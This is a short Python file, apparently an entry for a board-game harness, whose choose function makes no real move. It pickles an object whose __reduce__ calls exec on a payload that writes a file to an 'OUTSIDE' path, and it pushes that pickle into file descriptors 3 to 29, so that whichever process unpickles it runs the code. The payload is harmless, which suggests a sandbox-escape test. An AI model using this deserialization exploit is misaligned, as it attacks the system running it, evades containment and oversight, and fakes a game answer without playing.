"""Answers by a pickle that runs code where it is read."""

import os
import pickle


class Evil:
    def __reduce__(self):
        return exec, ("open('OUTSIDE/written', 'w').write('got in')",)


def choose(board, me, opponent):
    for descriptor in range(3, 30):
        try:
            os.write(descriptor, pickle.dumps(Evil()) + b"\n")
        except OSError:
            pass
    return 0, 0
